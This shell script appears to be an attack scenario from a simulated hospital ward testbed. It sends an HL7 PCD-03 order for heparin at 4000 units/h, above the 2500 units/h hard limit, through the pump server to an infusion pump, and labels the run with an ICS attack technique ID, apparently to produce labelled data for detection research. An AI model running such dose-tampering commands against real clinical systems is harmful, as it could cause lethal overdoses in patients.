# Over-limit dose through the legitimate path: a (compromised or mistaken) EHR order for heparin
# at 4000 units/h, above the drug library's hard limit (2500 units/h in ICU, testbed/ward.yaml),
# sent to the pump server, which forwards it to pump 1 without checking it.
DEFAULT_DURATION=30
attack_over_limit_dose() {
  local t0 t1
  t0=$(now)
  run_in ehr hl7-send 15 "$WARD_SIM" hl7-send --to 10.10.1.5:3000 --type pcd03 \
    --sender 'BCMA^0012AB0000000010^EUI-64' --control BCMA9001 --pump PUMP0021 \
    --drug heparin --drug-id 0409-2720 --rate 4000 --units '[iU]/h' --vtbi 500 || return 1
  t1=$(now)
  label dose_limit T0836 ehr "pumpsrv pump1" "$t0" "$t1" \
    "PCD-03 order heparin 4000 units/h (hard limit 2500) from the EHR, forwarded by the pump server to PUMP0021"
}
scenario_run() {
  start_ward "$1"
  sleep 8
  attack_over_limit_dose
}
